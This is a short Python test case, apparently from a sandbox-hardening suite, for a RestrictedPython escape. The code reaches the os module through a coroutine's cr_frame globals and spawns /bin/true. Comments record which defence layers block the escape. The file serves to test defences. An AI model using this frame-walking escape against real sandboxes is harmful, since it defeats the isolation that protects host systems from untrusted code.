# attack: generator/coroutine/traceback frames
# stops: restrictedpython: AsyncFunctionDef statements are not allowed
# os: process/seccomp: Operation not permitted
# baseline: -restrictedpython => escaped
# a coroutine's cr_frame
async def c():
    pass
coroutine = c()
found = coroutine.cr_frame.f_globals
coroutine.close()
os = found["_getattr_"].__globals__["BrokerClient"].call.__globals__["frames"].os
print("ESCAPED", os.posix_spawn("/bin/true", ["true"], {}))
